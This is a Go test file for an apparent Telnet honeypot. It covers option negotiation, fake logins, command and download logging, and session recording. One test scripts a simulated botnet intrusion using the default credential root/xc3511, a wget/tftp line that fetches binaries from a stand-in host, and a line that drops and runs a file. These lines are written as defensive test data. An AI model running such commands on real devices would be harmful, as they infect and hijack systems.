@@ -0,0 +1,219 @@
+package honeypot
+
+import (
+	"bufio"
+	"bytes"
+	"io"
+	"net"
+	"strings"
+	"testing"
+	"time"
+
+	"phantom-grid/internal/config"
+	"phantom-grid/internal/honeypot/recording"
+)
+
+func TestTelnetConnParse(t *testing.T) {
+	server, client := net.Pipe()
+	defer client.Close()
+	tc := newTelnetConn(server)
+
+	replies := make(chan []byte, 1)
+	go func() {
+		buf := make([]byte, 64)
+		n, _ := client.Read(buf)
+		replies <- buf[:n]
+	}()
+
+	input := []byte{
+		telnetIAC, telnetDO, telnetOptEcho,
+		telnetIAC, telnetSB, telnetOptNAWS, 0, 132, 0, 43, telnetIAC, telnetSE,
+		telnetIAC, telnetSB, telnetOptTType, telnetTTypeIS, 'X', 'T', 'E', 'R', 'M', telnetIAC, telnetSE,
+		'r', 'o', 'o', 't', '\r', 0,
+		'a', telnetIAC, telnetIAC, 'b', '\r', '\n',
+		telnetIAC, telnetDO, 42, // Unsupported option, refused
+	}
+	go client.Write(input)
+
+	var data []byte
+	buf := make([]byte, 64)
+	for len(data) < 9 {
+		n, err := tc.Read(buf)
+		if err != nil {
+			t.Fatalf("Read() error = %v", err)
+		}
+		data = append(data, buf[:n]...)
+	}
+	if want := []byte("root\na\xffb\n"); !bytes.Equal(data, want) {
+		t.Errorf("data = %q, want %q", data, want)
+	}
+
+	// The refusal is written while reading past the last data byte
+	go tc.Read(buf)
+	select {
+	case reply := <-replies:
+		if want := []byte{telnetIAC, telnetWONT, 42}; !bytes.Equal(reply, want) {
+			t.Errorf("reply = %v, want %v", reply, want)
+		}
+	case <-time.After(time.Second):
+		t.Fatal("unsupported option was not refused")
+	}
+
+	if !tc.echo || tc.term != "xterm" || tc.width != 132 || tc.height != 43 {
+		t.Errorf("echo = %v, term = %q, window = %dx%d; want true, xterm, 132x43", tc.echo, tc.term, tc.width, tc.height)
+	}
+}
+
+func TestTelnetLogin(t *testing.T) {
+	chdirTemp(t)
+	oldDelay := telnetLoginDelay
+	telnetLoginDelay = 0
+	defer func() { telnetLoginDelay = oldDelay }()
+
+	logChan := make(chan string, 100)
+	h := NewHandler(logChan)
+	h.login = config.LoginConfiguration{
+		Policy:      config.LoginPolicyList,
+		Credentials: []config.Credential{{User: "root", Password: "xc3511"}},
+		MaxAttempts: 3,
+	}
+	h.telnetBanner = "Debian GNU/Linux 10\r\n\r\nlocalhost login: "
+	h.fs.ArtifactDir = t.TempDir()
+	h.recording.Dir = t.TempDir()
+
+	server, client := net.Pipe()
+	done := make(chan struct{})
+	go func() {
+		h.handleTelnet(server, "203.0.113.9:5555", "12:00:00")
+		server.Close()
+		close(done)
+	}()
+
+	// A bot that ignores negotiation and waits for prompts
+	r := bufio.NewReader(client)
+	expect := func(prompt string) {
+		t.Helper()
+		var seen []byte
+		for !bytes.HasSuffix(seen, []byte(prompt)) {
+			b, err := r.ReadByte()
+			if err != nil {
+				t.Fatalf("waiting for %q: %v (got %q)", prompt, err, seen)
+			}
+			seen = append(seen, b)
+		}
+	}
+	send := func(line string) {
+		t.Helper()
+		if _, err := io.WriteString(client, line+"\r\n"); err != nil {
+			t.Fatalf("write %q: %v", line, err)
+		}
+	}
+
+	expect("localhost login: ")
+	send("admin")
+	expect("Password: ")
+	send("admin")
+	expect("Login incorrect\r\n")
+	expect("localhost login: ")
+	send("root")
+	expect("Password: ")
+	send("xc3511")
+	expect("# ")
+	send("/bin/busybox ECCHI")
+	expect("ECCHI: applet not found\r\n")
+	expect("# ")
+	send("cd /tmp; wget http://198.51.100.3/bins/x86 -O x; tftp -g -r mips 198.51.100.3")
+	expect("# ")
+	send(`echo -ne '\x7fELF' > .d; chmod +x .d; ./.d; rm .d`)
+	expect("# ")
+	send("exit")
+	go io.Copy(io.Discard, r)
+
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("handleTelnet() did not return after exit")
+	}
+	client.Close()
+
+	var logs []string
+	for len(logChan) > 0 {
+		logs = append(logs, <-logChan)
+	}
+	all := strings.Join(logs, "\n")
+	for _, want := range []string{
+		`TELNET CLIENT: 203.0.113.9 | Terminal: none`,
+		`TELNET LOGIN: 203.0.113.9 | User: admin | Password: "admin" | Attempt: 1 | Accepted: false`,
+		`TELNET LOGIN: 203.0.113.9 | User: root | Password: "xc3511" | Attempt: 2 | Accepted: true`,
+		`TELNET COMMAND: /bin/busybox ECCHI`,
+		`TELNET DOWNLOAD: 203.0.113.9 | URL: http://198.51.100.3/bins/x86`,
+		`TELNET DOWNLOAD: 203.0.113.9 | URL: tftp://198.51.100.3/mips`,
+		`TELNET ARTIFACT: 203.0.113.9 | Path: /tmp/.d | Size: 4 | SHA256: 3bdbb4fe8397cd2b842430b39ccff01a8663c751945ef5e9a09e267fb8b1d359 | Removed: true`,
+		`TELNET RECORDING: 203.0.113.9 | Session: `,
+	} {
+		if !strings.Contains(all, want) {
+			t.Errorf("logs missing %q:\n%s", want, all)
+		}
+	}
+
+	// The shell was recorded from the login on, without the credentials
+	infos, err := recording.List(h.recording.Dir)
+	if err != nil || len(infos) != 1 {
+		t.Fatalf("recordings = %+v, %v, want one", infos, err)
+	}
+	if s := infos[0].Header.Session; s.Service != "TELNET" || s.IP != "203.0.113.9" || s.User != "root" {
+		t.Errorf("session = %+v", s)
+	}
+	matches, err := recording.Search(infos[0].Path, "ECCHI")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The bot's terminal does not echo, so the output follows the prompt
+	want := []recording.Match{
+		{Type: recording.Output, Line: "root@server:~# ECCHI: applet not found"},
+		{Type: recording.Input, Line: "/bin/busybox ECCHI"},
+	}
+	if len(matches) != len(want) {
+		t.Fatalf("Search(ECCHI) = %+v, want the command and its output", matches)
+	}
+	for i := range want {
+		if matches[i].Type != want[i].Type || matches[i].Line != want[i].Line {
+			t.Errorf("match %d = %+v, want %+v", i, matches[i], want[i])
+		}
+	}
+	if matches, _ := recording.Search(infos[0].Path, "xc3511"); len(matches) != 0 {
+		t.Errorf("password recorded: %+v", matches)
+	}
+}
+
+func TestTelnetAttemptPolicyRaisesLimit(t *testing.T) {
+	chdirTemp(t)
+	oldDelay := telnetLoginDelay
+	telnetLoginDelay = 0
+	defer func() { telnetLoginDelay = oldDelay }()
+
+	h := NewHandler(make(chan string, 100))
+	h.login = config.LoginConfiguration{Policy: config.LoginPolicyAttempt, Attempt: 3, MaxAttempts: 2}
+	h.recording.Dir = ""
+
+	server, client := net.Pipe()
+	defer client.Close()
+	go func() {
+		h.handleTelnet(server, "203.0.113.9:5555", "12:00:00")
+		server.Close()
+	}()
+	go func() {
+		for i := 0; i < 3; i++ {
+			io.WriteString(client, "root\r\nroot\r\n")
+		}
+		io.WriteString(client, "exit\r\n")
+	}()
+
+	out, _ := io.ReadAll(client)
+	if strings.Contains(string(out), "Too many login attempts") {
+		t.Error("connection closed before the accepted attempt")
+	}
+	if !strings.Contains(string(out), "Last login:") {
+		t.Errorf("third attempt not accepted:\n%q", out)
+	}
+}